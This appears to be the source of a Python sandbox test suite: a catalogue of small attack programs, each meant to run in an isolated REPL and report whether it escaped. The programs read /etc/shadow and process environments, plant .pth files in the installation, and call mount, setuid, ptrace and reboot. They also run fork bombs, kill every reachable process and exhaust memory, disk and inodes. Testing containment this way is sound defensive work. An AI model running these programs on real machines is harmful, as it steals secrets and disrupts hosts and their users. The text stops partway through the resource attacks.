"""Programs that try to get out of a sandbox, to stay in it, or to harm its host. Data; `attacks` runs them.

Each is one block for a REPL of its own. Before it come `TOOLS` and constants that say what there is to
attack (`attacks.Targets`). A program prints "BROKEN" when it reaches its goal, "refused" when it was
stopped, and "tried" when only the host can tell. It has no class statements and names no rare
exceptions, so that it runs in REPLs that have few built-ins, too.

None destroys what it reaches. One that could take memory, files, processes or the machine's time where
it succeeds is `dangerous`, and only tried where the others have achieved nothing.
"""

from __future__ import annotations

from dataclasses import dataclass

TOOLS = """
import builtins, ctypes, fcntl, mmap, os, signal, socket, struct, subprocess, sys, threading, time
from contextlib import suppress
libc = ctypes.CDLL(None, use_errno=True)
if sys.platform != "emscripten":
    import resource
else:
    def absent(*_, **__):
        raise OSError("this system has no such function")

    native, resource = libc, type(sys)("resource")
    for module in (os, fcntl, resource, signal, socket):
        module.__getattr__ = lambda _: absent
    libc = type("C", (), {"__getattr__": lambda _, name: getattr(native, name, lambda *_: -1)})()
REFUSALS = (OSError, ValueError, RuntimeError, builtins.MemoryError, builtins.EOFError, builtins.BufferError)

def attempt(goal, act, *arguments, **options):
    try:
        found = act(*arguments, **options)
    except REFUSALS as error:
        print("refused", goal, type(error).__name__, str(error)[:100])
    else:
        print("BROKEN", goal, str(found)[:100])

def call(name, *arguments):
    if name not in NUMBERS or sys.platform == "emscripten":
        return print("refused", name, "there is no such call")
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    result = libc.syscall(ctypes.c_long(NUMBERS[name]), *wide)
    if result == 0 and name in ("fork", "vfork", "clone", "clone3"):
        os._exit(0)
    print("BROKEN" if result >= 0 else "refused", name, os.strerror(ctypes.get_errno()))

def channels(way=os.O_WRONLY):
    found = []
    for descriptor in range(3, 64):
        try:
            kind = os.fstat(descriptor).st_mode >> 12
            if kind == 0o14 or kind == 0o1 and fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE == way:
                found.append(descriptor)
        except OSError:
            pass
    return found

def channel(way=os.O_WRONLY):
    found = channels(way)
    if not found:
        raise OSError("there is no line to a host")
    return found[0]

def line():
    if os.fstat(channel()).st_mode >> 12 == 0o14:
        return socket.socket(fileno=os.dup(channel()))
    print("refused: the line to the host is no socket")

def send(header, body=b""):
    data = struct.pack("<II", len(header), len(body)) + header + body
    while data:
        data = data[os.write(channel(), data):]
    print("tried")

def evil(**members):
    return type("Evil", (members.pop("base", object),), members)
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """A program, and what it would mean that it succeeds."""

    group: str
    """What it goes for: "files", "secrets", "network", "processes", "kernel", "resources", "channel",
    "interpreter", "values" or "output"."""
    name: str
    """Ends the sentence "code that ..."."""
    goal: str
    """What would show that it succeeded."""
    code: str
    quick: bool = False
    """Whether `recursor doctor` tries it: it takes milliseconds, and the answer says something to a user."""
    dangerous: bool = False
    """Whether the machine or its users could notice a success."""
    silent: bool = False
    """Whether it may say nothing, or end its REPL: that the host goes on is all that counts."""
    spoils: bool = False
    """Whether later blocks in the same REPL may fail, since it changes its own interpreter."""
    max_time: float = 20.0
    """Seconds that the block is given."""


SHOWN = "something is opened or shown"
CHANGED = "something outside is changed"
REACHED = "a connection, or data, arrives"
STARTED = "a process is started, or touched"
GRANTED = "the kernel grants it"
UNBOUNDED = "there is no bound"
STUCK = "the host hangs, dies, or cannot run the next block"

# A program reads better below its name than in a column of arguments.
# fmt: off
FILES = (
    Attack("files", "reads system files", SHOWN, """
for path in ('/etc/passwd', '/etc/shadow', '/etc/hostname', '/etc/machine-id', '/boot', '/var/log'):
    attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read(40))""", quick=True),
    Attack("files", "reads a file of the user", "its text is shown", """
attempt('open', lambda: open(SECRET).read())
attempt('openat', lambda: os.open(SECRET, os.O_RDONLY, dir_fd=os.open('/', os.O_PATH)))
attempt('path', os.open, SECRET, os.O_PATH)""", quick=True),
    Attack("files", "climbs out by relative paths", SHOWN, """
attempt('dots', lambda: open('../' * 40 + SECRET.lstrip('/')).read())
try:
    root = os.open('/', os.O_PATH)
except OSError as error:
    print('refused the root', error)
else:
    attempt('above', lambda: os.open('../../..' + SECRET, os.O_RDONLY, dir_fd=root))
os.chdir('/')
attempt('here', lambda: open('.' + SECRET).read())""", quick=True),
    Attack("files", "asks what is in the home directory", "it learns that a file exists", """
attempt('stat', os.stat, PRIVATE)
attempt('secret', os.stat, SECRET)
attempt('access', lambda: os.listdir(FOLDER))
print('BROKEN' if os.access(SECRET, os.F_OK) else 'refused', 'access')""", quick=True),
    Attack("files", "links to a file of the user", "its text is shown", """
for link in (os.symlink, os.link):
    def through():
        place = '/tmp/' + MARK + link.__name__
        link(SECRET, place)
        return open(place).read()
    attempt(link.__name__, through)
    if os.path.lexists('/tmp/' + MARK + link.__name__):
        os.unlink('/tmp/' + MARK + link.__name__)""", quick=True),
    Attack("files", "changes the metadata of a file of the user", "its mode or times change", """
attempt('mode', os.chmod, SECRET, 0o640)
attempt('times', os.utime, SECRET, (1, 1))
attempt('owner', os.chown, SECRET, os.getuid(), os.getgid())
attempt('attribute', os.setxattr, SECRET, 'user.x', b'1')
attempt('attributes', os.listxattr, SECRET)"""),
    Attack("files", "writes into folders of the host", "a file of its own appears there", """
for place in (FOLDER, *PLACES, '/', '/usr', '/var/tmp', '/dev', '/run'):
    try:
        open(place + '/' + MARK, 'w').close()
        print('tried', place)
    except OSError as error:
        print('refused', place, error)""", quick=True),
    Attack("files", "writes an unnamed file outside and gives it a name", "a file of its own appears there", """
for place in (FOLDER, *PLACES, '/usr'):
    try:
        file = os.open(place, os.O_TMPFILE | os.O_RDWR)
        libc.linkat(file, b'', -100, (place + '/' + MARK).encode(), 0x1000)
        print('tried', place)
    except OSError as error:
        print('refused', place, error)"""),
    Attack("files", "removes or replaces a file of the user", CHANGED, """
with suppress(OSError): open('/tmp/' + MARK, 'w').close()
attempt('replace', os.replace, '/tmp/' + MARK, SECRET)
attempt('truncate', os.truncate, SECRET, 0)
attempt('remove', os.unlink, SECRET)
attempt('folder', os.rename, FOLDER, FOLDER + MARK)
with suppress(OSError): os.unlink('/tmp/' + MARK)""", dangerous=True),
    Attack("files", "plants code in the installation", "a file of the installation is changed", """
for folder in [sys.prefix, *sys.path, os.path.dirname(os.__file__)]:
    attempt('plant ' + folder, lambda: os.close(os.open(folder + '/' + MARK + '.pth', os.O_CREAT | os.O_WRONLY)))
    attempt('mode ' + folder, os.chmod, folder, 0o755)
attempt('change', open, os.__file__, 'a')
attempt('move', os.rename, os.__file__, os.__file__)""", dangerous=True),
    Attack("files", "looks into /proc", SHOWN, """
attempt('list', os.listdir, f'/proc/{HOST}')
for name in ('environ', 'maps', 'mem', 'root/etc/passwd', 'cwd', 'fd', 'fd/0', 'auxv', 'stat', 'cmdline'):
    for pid in (HOST, VICTIM):
        path = f'/proc/{pid}/{name}'
        attempt(path, lambda: os.open(path, os.O_RDONLY))
attempt('settings', open, '/proc/sys/kernel/hostname')
attempt('memory', open, '/proc/kcore', 'rb')""", quick=True),
    Attack("files", "looks into /sys and control groups", SHOWN, """
attempt('sys', os.listdir, '/sys')
attempt('cgroup', os.listdir, '/sys/fs/cgroup')
attempt('debug', os.listdir, '/sys/kernel')
attempt('run', os.listdir, '/run')"""),
    Attack("files", "opens raw devices", GRANTED, """
for device in ('vda', 'sda', 'nvme0n1', 'mem', 'port', 'kmsg', 'fuse', 'kvm', 'tty', 'ptmx', 'pts', 'shm', 'loop0'):
    attempt(device, os.open, '/dev/' + device, os.O_RDONLY)""", quick=True),
    Attack("files", "makes device nodes and named pipes", GRANTED, """
attempt('block', os.mknod, '/tmp/' + MARK, 0o60600, os.makedev(254, 0))
attempt('character', os.mknod, '/tmp/' + MARK, 0o20600, os.makedev(1, 1))
attempt('pipe', os.mkfifo, '/tmp/' + MARK)"""),
    Attack("files", "runs native code from its scratch space", "the library is loaded", """
source = next(path for folder in sys.path if os.path.isdir(folder) for path, _, names in os.walk(folder)
              for name in names if name.endswith('.so') for path in [path + '/' + name])
try:
    with open(source, 'rb') as original, open('/tmp/' + MARK + '.so', 'wb') as copy:
        copy.write(original.read())
except OSError as error:
    print('refused to write it', error)
else:
    attempt('load', ctypes.CDLL, '/tmp/' + MARK + '.so')
    with open('/tmp/' + MARK + '.so', 'rb') as copy:
        attempt('map', mmap.mmap, copy.fileno(), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC)
    os.unlink('/tmp/' + MARK + '.so')"""),
    Attack("files", "changes the file behind a descriptor", GRANTED, """
try:
    file = open('/tmp/' + MARK, 'w')
except OSError:  # there is no scratch space
    file = open('/dev/null', 'w')
with file:
    attempt('mode', os.chmod, file.fileno(), 0o666)
    attempt('times', os.utime, file.fileno(), (1, 1))
    attempt('owner', os.chown, file.fileno(), os.getuid(), -1)
    attempt('lock', fcntl.flock, file, fcntl.LOCK_EX)
    attempt('lease', fcntl.fcntl, file, 1024, fcntl.F_WRLCK)
    attempt('signals', fcntl.fcntl, file, fcntl.F_SETOWN, HOST)
    call('utimensat', file.fileno(), b'', None, 0x1000)
with suppress(OSError): os.unlink('/tmp/' + MARK)"""),
    Attack("files", "changes a context", "the file that was handed in changes", """
print('tried', len(context))
for descriptor in range(3, 256):
    for change in (lambda: os.pwrite(descriptor, b'EVIL', 0), lambda: os.ftruncate(descriptor, 0),
                   lambda: mmap.mmap(descriptor, 4, prot=3).write(b'EVIL'),
                   lambda: os.write(os.open(f'/proc/self/fd/{descriptor}', os.O_RDWR), b'EVIL')):
        try:
            if os.fstat(descriptor).st_mode >> 12 == 0o10:
                change()
        except REFUSALS:
            pass"""),
)

SECRETS = (
    Attack("secrets", "reads the environment of the host", "the value of a variable is shown", """
libc.getenv.restype = ctypes.c_char_p
print('refused: not in os.environ' if VARIABLE not in os.environ else os.environ[VARIABLE])
print('refused: not by getenv' if libc.getenv(VARIABLE.encode()) is None else libc.getenv(VARIABLE.encode()))
attempt('proc', lambda: open('/proc/self/environ').read())""", quick=True),
    Attack("secrets", "reads the environment that its process was started with", "the value of a variable is shown", """
libc.getauxval.restype = ctypes.c_long
libc.getauxval.argtypes = [ctypes.c_long]
end = libc.getauxval(31)  # the name of the program: the strings of the environment are right below
print('tried', ctypes.string_at(end - 16384, 16384) if end else 'there is none')"""),
    Attack("secrets", "searches its memory for what the host knows", "a secret of the host is shown", """
import gc
found = set()
for holder in gc.get_objects():
    for item in gc.get_referents(holder):
        if type(item) is str and NEEDLE in item:
            at = item.index(NEEDLE)
            found.add(item[at:at + 80])
print('tried', found)"""),
    Attack("secrets", "walks the frames of its callers", "a secret of the host is shown", """
frames = list(sys._current_frames().values()) + [sys._getframe()]
while frames:
    frame = frames.pop()
    print('tried', [str(value)[:200] for value in frame.f_locals.values() if type(value) is str and NEEDLE in value])
    if frame.f_back is not None:
        frames.append(frame.f_back)"""),
    Attack("secrets", "reads descriptors that were left open", "the text of the file is shown", """
import stat
for descriptor in range(3, 1024):
    try:
        kind = os.fstat(descriptor).st_mode
        print('tried', descriptor, os.pread(descriptor, 100, 0) if stat.S_ISREG(kind) else oct(kind))
        if stat.S_ISDIR(kind):
            print('BROKEN', os.listdir(descriptor))
    except OSError:
        pass
print('tried all')"""),
    Attack("secrets", "finds its way to popen by the classes there are", STARTED, """
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == '_wrap_close':
        attempt('popen', lambda: kind.__init__.__globals__['popen']('id').read())
print('tried')"""),
    Attack("secrets", "uses keyrings of the kernel", GRANTED, """
call('keyctl', 0, -3, 1)
call('keyctl', 0, -4, 1)
call('add_key', b'user', MARK.encode(), b'y', 1, -3)
call('request_key', b'user', MARK.encode(), None, -3)""", quick=True),
)

NETWORK = (
    Attack("network", "opens a socket of any kind", GRANTED, """
for family in range(1, 46):
    for kind in (1, 2, 3, 5):
        for protocol in (0, 1, 6, 17, 262):
            attempt(f'{family} {kind} {protocol}', socket.socket, family, kind, protocol)""", quick=True),
    Attack("network", "connects to this machine", REACHED, """
for address in ADDRESSES:
    attempt(address, socket.create_connection, address, 2)
    attempt('MPTCP', lambda: socket.socket(2, 1, 262).connect(tuple(address)))""", quick=True),
    Attack("network", "sends datagrams to this machine", REACHED, """
attempt('UDP', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'evil', DATAGRAMS))""", quick=True),
    Attack("network", "connects to Unix sockets of the host", REACHED, """
for address in (SOCKET, chr(0) + ABSTRACT):
    attempt(address, lambda: socket.socket(socket.AF_UNIX).connect(address))
    attempt('datagram', lambda: socket.socket(socket.AF_UNIX, 2).sendto(b'evil', address))""", quick=True),
    Attack("network", "waits for connections", "it listens", """
for family, address in ((socket.AF_INET, ('127.0.0.1', 0)), (socket.AF_UNIX, chr(0) + MARK)):
    attempt('listen', lambda: socket.create_server(address, family=family))""", quick=True),
    Attack("network", "looks up names", REACHED, """
for name in ('localhost', 'example.com'):
    attempt(name, socket.getaddrinfo, name, 80)
attempt('host', socket.gethostbyname, 'localhost')"""),
    Attack("network", "fetches a page", REACHED, """
import urllib.request
attempt('http', urllib.request.urlopen, 'http://%s:%s/' % tuple(ADDRESSES[0]), None, 2)"""),
    Attack("network", "uses a pair of sockets to send elsewhere", REACHED, """
for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    attempt('pair', socket.socketpair, socket.AF_UNIX, kind)
pair = socket.socketpair()
for address in (SOCKET, chr(0) + ABSTRACT):
    attempt('connect', pair[0].connect, address)
    attempt('send', pair[0].sendto, b'evil', address)
    attempt('message', pair[0].sendmsg, [b'evil'], [], 0, address)
    attempt('listen', pair[0].listen)"""),
    Attack("network", "uses the socket to its host to reach further", REACHED, """
end = line()
for address in (SOCKET, chr(0) + ABSTRACT) if end else ():
    attempt('connect', end.connect, address)
    attempt('send', end.sendto, b'', address)
if end:
    attempt('listen', end.listen)
    attempt('accept', end.accept)
    end.detach()"""),
    Attack("network", "hands its host a descriptor", GRANTED, """
end = line()
if end:
    attempt('rights', socket.send_fds, end, [b'x'], [0])
    end.detach()""", spoils=True),
    Attack("network", "asks the host's socket who is there", GRANTED, """
end = line()
if end:
    for option in (17, 31, 59, 76, 77):
        attempt(f'option {option}', end.getsockopt, socket.SOL_SOCKET, option, 16)
    attempt('buffer', end.setsockopt, socket.SOL_SOCKET, 32, 1 << 30)
    attempt('filter', end.setsockopt, socket.SOL_SOCKET, 26, struct.pack('HxxxxxxQ', 0, 0))
    end.detach()"""),
)

PROCESSES = (
    Attack("processes", "forks", STARTED, """
def fork():
    child = os.fork()
    if not child:
        os._exit(0)
    return os.waitpid(child, 0)
attempt('fork', fork)
call('fork')
call('clone', 17, None, None, None, None)
arguments = struct.pack('=11Q', 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
call('clone3', arguments, len(arguments))""", quick=True),
    Attack("processes", "forks without copying its memory", STARTED, "call('vfork')", dangerous=True),
    Attack("processes", "runs a program", STARTED, """
attempt('run', subprocess.run, ['/bin/sh', '-c', 'id'], capture_output=True)
attempt('spawn', os.posix_spawn, sys.executable, [sys.executable, '-c', ''], {})
attempt('system', lambda: os.system('id') == 0 or os.open('/no/shell', 0))
attempt('self', subprocess.run, [sys.executable, '-c', ''])""", quick=True),
    Attack("processes", "starts processes as a library would", STARTED, """
import multiprocessing
for way in ('fork', 'spawn', 'forkserver'):
    attempt(way, lambda: multiprocessing.get_context(way).Process(target=os._exit, args=(0,)).start())
from concurrent.futures import ProcessPoolExecutor
attempt('pool', lambda: ProcessPoolExecutor(1).submit(abs, -1).result(5))""", dangerous=True),
    Attack("processes", "runs a program with more rights", STARTED, """
for program in ('/bin/su', '/usr/bin/sudo', '/bin/mount', '/usr/bin/passwd'):
    attempt(program, subprocess.run, [program, '--version'], capture_output=True)"""),
    Attack("processes", "replaces itself by another program", STARTED, """
attempt('exec', os.execv, '/bin/true', ['true'])
attempt('python', os.execv, sys.executable, [sys.executable, '-c', 'print("BROKEN")'])
call('execve', b'/bin/true', None, None)
call('execveat', -100, b'/bin/true', None, None, 0)""", dangerous=True),
    Attack("processes", "runs a program from memory", GRANTED, """
call('memfd_create', b'x', 0)
call('memfd_secret', 0)
call('execveat', 0, b'', None, None, 0x1000)"""),
    Attack("processes", "traces or reads another process", STARTED, """
for pid in (HOST, VICTIM):
    call('ptrace', 16906, pid, None, None)
    call('process_vm_readv', pid, None, 0, None, 0, 0)
    call('process_vm_writev', pid, None, 0, None, 0, 0)
    call('kcmp', pid, pid, 0, 0, 0)
    call('process_madvise', 3, None, 0, 20, 0)""", quick=True),
    Attack("processes", "takes descriptors of another process", GRANTED, """
for pid in (HOST, VICTIM, 1):
    call('pidfd_open', pid, 0)
for descriptor in range(3, 16):
    call('pidfd_getfd', descriptor, 0, 0)""", quick=True),
    Attack("processes", "signals the host", STARTED, """
for pid in (HOST, VICTIM):
    attempt(f'signal {pid}', os.kill, pid, 0)
    attempt(f'group {pid}', os.killpg, pid, 0)
    call('tgkill', pid, pid, 0)
    call('tkill', pid, 0)
    call('pidfd_send_signal', pid, 0, None, 0)
attempt('everyone', os.kill, -1, 0)""", quick=True),
    Attack("processes", "ends another process", "it ends", """
for number in (signal.SIGTERM, signal.SIGKILL):
    attempt(f'signal {number}', os.kill, VICTIM, number)""", dangerous=True),
    Attack("processes", "kills everyone that it may", "another process ends", """
for number in (signal.SIGTERM, signal.SIGKILL):
    attempt(f'signal {number}', os.kill, -1, number)
    with suppress(PermissionError): os.kill(0, 0)
    print('refused: alone in its group')""", dangerous=True),
    Attack("processes", "changes limits and priorities of others", GRANTED, """
attempt('limit', resource.prlimit, HOST, resource.RLIMIT_NOFILE)
attempt('core', resource.prlimit, HOST, resource.RLIMIT_CORE, (0, 0))
attempt('affinity', os.sched_getaffinity, HOST)
attempt('priority', os.setpriority, os.PRIO_PROCESS, HOST, 19)
attempt('own priority', os.setpriority, os.PRIO_PROCESS, 0, -20)
attempt('real time', os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
attempt('session', os.getsid, HOST)"""),
    Attack("processes", "leaves a process behind", "the process is there when the REPL is closed", """
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            libc.prctl(15, MARK.encode(), 0, 0, 0)
            time.sleep(60)
        os._exit(0)
    print('tried')
except OSError as error:
    print('refused', error)""", dangerous=True),
    Attack("processes", "forks without end", UNBOUNDED, """
def bomb():
    for _ in range(64):
        if os.fork() == 0:
            os._exit(0)
attempt('bomb', bomb)""", dangerous=True),
    Attack("processes", "becomes what nobody may trace, adopt or stop", GRANTED, """
for option, value in ((1, 9), (4, 1), (36, 1), (0x59616d61, HOST), (31, 1), (22, 2), (38, 0), (24, 0), (47, 2)):
    result = libc.prctl(option, ctypes.c_ulong(value), 0, 0, 0)
    print('refused' if result < 0 else 'BROKEN', option, os.strerror(ctypes.get_errno()))"""),
)

KERNEL = (
    Attack("kernel", "makes namespaces", GRANTED, """
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x4000000, 0x2000000, 0x80):
    call('unshare', flag)
    call('clone', flag | 17, None, None, None, None)
    arguments = struct.pack('=11Q', flag, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    call('clone3', arguments, len(arguments))
for descriptor in (0, 3, 4):
    call('setns', descriptor, 0)""", quick=True),
    Attack("kernel", "starts a thread in other namespaces", GRANTED, """
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000):
    call('clone', flag | 0x10000 | 0x800 | 0x100, None, None, None, None)""", dangerous=True),
    Attack("kernel", "mounts", GRANTED, """
call('mount', b'none', b'/tmp', b'tmpfs', 0, None)
call('mount', None, b'/', None, 32 | 4096, None)
call('umount2', b'/tmp', 2)
call('chroot', b'/tmp')
call('pivot_root', b'/tmp', b'/tmp')
call('open_tree', -100, b'/', 1)
call('fsopen', b'tmpfs', 0)
call('mount_setattr', -100, b'/', 0, bytes(32), 32)
call('move_mount', -100, b'/tmp', -100, b'/tmp', 0)""", dangerous=True),
    Attack("kernel", "uses io_uring", GRANTED, """
call('io_uring_setup', 8, ctypes.create_string_buffer(248))
call('io_uring_enter', 3, 1, 0, 0, None, 0)
call('io_uring_register', 3, 0, None, 0)""", quick=True),
    Attack("kernel", "loads programs into the kernel and watches it", GRANTED, """
call('bpf', 0, ctypes.create_string_buffer(128), 128)
call('bpf', 5, ctypes.create_string_buffer(128), 128)
call('perf_event_open', ctypes.create_string_buffer(128), 0, -1, -1, 0)
call('syslog', 10, None, 0)
call('init_module', None, 0, b'')
call('finit_module', 0, b'', 0)
call('kexec_load', 0, 0, None, 0xFFFF)""", quick=True),
    Attack("kernel", "handles its own page faults", GRANTED, """
call('userfaultfd', 1)
call('userfaultfd', 0)"""),
    Attack("kernel", "moves pages between pipes and memory", GRANTED, """
ends = os.pipe()
os.write(ends[1], b'x')
page = ctypes.create_string_buffer(4096)
call('vmsplice', ends[1], struct.pack('QQ', ctypes.addressof(page), 1), 1, 0)
call('tee', ends[0], ends[1], 1, 0)
call('splice', ends[0], None, ends[1], None, 1, 0)
for descriptor in ends: os.close(descriptor)"""),
    Attack("kernel", "opens files by their numbers", GRANTED, """
handle = ctypes.create_string_buffer(struct.pack('II', 64, 0), 128)
call('name_to_handle_at', -100, b'/', handle, ctypes.create_string_buffer(8), 0)
call('open_by_handle_at', -100, handle, 0)
call('fanotify_init', 0, 0)"""),
    Attack("kernel", "changes the filters that it is under", GRANTED, """
call('seccomp', 0, 0, None)
call('seccomp', 1, 0, None)
call('landlock_create_ruleset', None, 0, 1)
call('landlock_restrict_self', 3, 0)
print('refused' if libc.prctl(22, 2, None, 0, 0) < 0 else 'BROKEN', 'prctl')"""),
    Attack("kernel", "becomes someone else", GRANTED, """
for user in (0, 1, 65534):
    if user != os.getuid():
        attempt(f'user {user}', os.setuid, user)
        attempt(f'group {user}', os.setgid, user)
        attempt(f'saved {user}', os.setresuid, user, user, user)
attempt('groups', os.setgroups, [0])
call('capset', struct.pack('=Ii', 0x20080522, 0), b'\\xff' * 24)
call('setfsuid', 0) if 'setfsuid' in NUMBERS and libc.setfsuid(-1) > 0 else print('refused')
call('personality', 0x0040000)""", dangerous=True),
    Attack("kernel", "changes the name and the clock of the machine", GRANTED, """
attempt('name', socket.sethostname, socket.gethostname())
attempt('clock', time.clock_settime, time.CLOCK_REALTIME, time.time())
call('setdomainname', b'evil', 4)
call('acct', b'/nonexistent')
call('swapon', b'/nonexistent', 0)
call('reboot', 0, 0, 0, None)""", dangerous=True),
    Attack("kernel", "uses shared memory of the system", GRANTED, """
call('shmget', 0x1234, 4096, 0o1666)
call('semget', 0x1234, 1, 0o1666)
call('msgget', 0x1234, 0o1666)
call('mq_open', MARK.encode(), 0o102, 0o600, None)
from multiprocessing import shared_memory
attempt('posix', shared_memory.SharedMemory, MARK, create=True, size=4096)"""),
    Attack("kernel", "types into a terminal", GRANTED, """
for descriptor in (0, 1, 2):
    for number in (0x5412, 0x541C, 0x5403, 0x540E, 0x5410):
        attempt(f'ioctl {number:x}', fcntl.ioctl, descriptor, number, b'x')
attempt('terminal', os.open, '/dev/tty', os.O_RDWR)"""),
    Attack("kernel", "raises its limits", GRANTED, """
for name in ('AS', 'NPROC', 'NOFILE', 'FSIZE', 'CORE'):
    kind = getattr(resource, 'RLIMIT_' + name)
    _, hard = resource.getrlimit(kind)
    if hard == resource.RLIM_INFINITY:
        print('BROKEN', name, 'is unlimited')
    else:
        attempt(name, resource.setrlimit, kind, (hard + 1, hard + 1))""", quick=True),
    Attack("kernel", "makes calls that later kernels invented", GRANTED, """
for number in (447, 449, 450, 451, 453, 454, 457, 458, 459, 463, 464, 465, 466, 467, 468, 469, 470, 471, 999, 1 << 20):
    result = libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0, 0)
    print('refused' if result < 0 and ctypes.get_errno() in (1, 38) else 'BROKEN', number, ctypes.get_errno())"""),
    Attack("kernel", "makes a call of the x32 convention", GRANTED, """
result = libc.syscall(ctypes.c_long(0x40000000 + 39)) if os.uname().machine == 'x86_64' else -1
print('BROKEN' if result > 0 else 'refused', result)""", silent=True),
    Attack("kernel", "makes a call of the 32-bit convention", GRANTED, """
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex('b814000000cd80c3'))
code = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
if os.uname().machine == 'x86_64':
    print('BROKEN', code())""", silent=True),
)

RESOURCES = (
    Attack("resources", "fills the memory", UNBOUNDED, """
kept = []
attempt('memory', lambda: [kept.append(bytearray(b'x') * (64 << 20)) for _ in range(128)])
kept.clear()""", dangerous=True),
    Attack("resources", "fills memory that is shared", UNBOUNDED, """
kept = []
def fill():
    for _ in range(128):
        kept.append(mmap.mmap(-1, 64 << 20))
        for page in range(0, 64 << 20, 4096):
            kept[-1][page] = 1
attempt('maps', fill)
kept.clear()""", dangerous=True),
    Attack("resources", "asks for one object of a terabyte", UNBOUNDED, """
attempt('bytes', bytearray, 1 << 40)
attempt('list', lambda: [0] * (1 << 37))
attempt('text', lambda: 'x' * (1 << 40))""", dangerous=True),
    Attack("resources", "keeps memory in pipes and sockets", "more than 256 MB", """
held, ends = 0, []
try:
    for _ in range(4000):
        ends += socket.socketpair()
        ends[-1].setblocking(False)
        try:
            while True: held += ends[-1].send(bytes(1 << 16))
        except OSError:
            pass
except OSError:
    pass
print('BROKEN' if held > 256 << 20 else 'refused', held)
for end in ends: end.close()""", dangerous=True),
    Attack("resources", "keeps memory in files without names", "it has 8 GB", """
kept = []
def fill():
    for _ in range(128):
        kept.append(os.memfd_create(MARK, os.MFD_CLOEXEC))
        os.write(kept[-1], bytes(64 << 20))
attempt('files', fill)
for descriptor in kept: os.close(descriptor)""", silent=True, dangerous=True),
    Attack("resources", "locks memory", GRANTED, """
attempt('mlock', lambda: libc.mlock(ctypes.create_string_buffer(1 << 24), 1 << 24) == 0 or os.open('/no/lock', 0))"""),
    Attack("resources", "fills the disk", UNBOUNDED, """
def fill():
    for number in range(128):
        with open(f'/tmp/{MARK}{number}', 'wb') as file:
            file.write(bytes(8 << 20))
attempt('disk', fill)
attempt('one file', lambda: open('/tmp/' + MARK + '0', 'wb').truncate(1 << 40))
attempt('reserve', lambda: os.posix_fallocate(os.open('/tmp/' + MARK + '0', os.O_RDWR), 0, 1 << 36))
with suppress(OSError):
    for name in os.listdir('/tmp'):
        if MARK in name: os.unlink('/tmp/' + name)""", dangerous=True),
    Attack("resources", "uses up inodes", UNBOUNDED, """
def fill():
    for number in range(100_000):
        os.close(os.open(f'/tmp/{MARK}{number}', os.O_CREAT | os.O_WRONLY))
attempt('inodes', fill)
with suppress(OSError):
    for name in os.listdir('/tmp'):
        if MARK in name: os.unlink('/tmp/' + name)""", dangerous=True),
    Attack("resources", "nests folders thousands deep", STUCK, """
for _ in range(3000):
    os.mkdir(MARK)
    os.chdir(MARK)""", dangerous=True, silent=True),
    Attack("resources", "opens files without end", UNBOUNDED, """
kept = []
attempt('descriptors', lambda: [kept.append(os.open('/dev/null', 0)) for _ in range(100_000)])
for descriptor in kept: os.close(descriptor)""", dangerous=True),
    Attack("resources", "starts threads without end", UNBOUNDED, """
gate = threading.Event()
started = []
def start():
    for _ in range(3000):
        thread = threading.Thread(target=gate.wait, daemon=True)
        thread.start()
        started.append(thread)
attempt('threads', start)
gate.set()
for thread in started: thread.join()""", dangerous=True),
    Attack("resources", "sets timers without end", UNBOUNDED, """
timer = ctypes.c_int()
made = 0
while made < 100_000 and libc.timer_create(1, None, ctypes.byref(timer)) == 0:
    made += 1
print('BROKEN' if made == 100_000 else 'refused', made, os.strerror(ctypes.get_errno()))""", dangerous=True),
    Attack("resources", "loops for ever", STUCK, "while True: pass", silent=True, max_time=0.3),
    Attack("resources", "sleeps for ever", STUCK, "time.sleep(1e9)", silent=True, max_time=0.3),
    Attack("resources", "waits for a lock for ever", STUCK, """
lock = threading.Lock()
lock.acquire()
lock.acquire()""", silent=True, max_time=0.3),
    Attack("resources", "swallows every exception", STUCK, """
while True:
    try:
        while True: pass
    except BaseException: pass""", silent=True, max_time=0.3),
    Attack("resources", "blocks every signal", STUCK, """
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True: pass""", silent=True, max_time=0.3),
    Attack("resources", "stops itself", STUCK, """
for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN): os.kill(os.getpid(), number)
print('tried')""", silent=True, max_time=0.3),
    Attack("resources", "hangs in a regular expression", STUCK, """
import re
re.match('(a+)+$', 'a' * 40 + 'b')""", silent=True, max_time=0.3),
    Attack("resources", "computes a number of a billion digits", STUCK,
           "7 ** (10 ** 9)", silent=True, max_time=0.3),
    Attack("resources", "hangs in native code that holds the interpreter", STUCK, """
ctypes.PyDLL(None).pause()
ctypes.PyDLL(None).sleep(1 << 30)""", silent=True, max_time=0.3),
    Attack("resources", "recurses until the stack is gone", STUCK, """
sys.setrecursionlimit(1 << 30)
def deeper(_=None): return list(map(deeper, [1]))
deeper()""", silent=True, max_time=3.0),
    Attack("resources", "dereferences null", STUCK, "ctypes.string_at(0)", silent=True),
    Attack("resources", "aborts", STUCK, "os.abort()", silent=True),
    Attack("resources", "leaves its process", STUCK, "os._exit(7)", silent=True),
    Attack("resources", "raises SystemExit", STUCK, "sys.exit(3)", silent=True),
    Attack("resources", "unpacks a bomb", STUCK, """
import zlib
def unpack():
    bomb = zlib.compressobj(1, zlib.DEFLATED, -15)
    part = bomb.compress(bytes(1 << 24)) + bomb.flush(zlib.Z_FULL_FLUSH)
    return len(zlib.decompress(part * 256 + bomb.flush(), -15))
attempt('4 GB', unpack)""", dangerous=True),
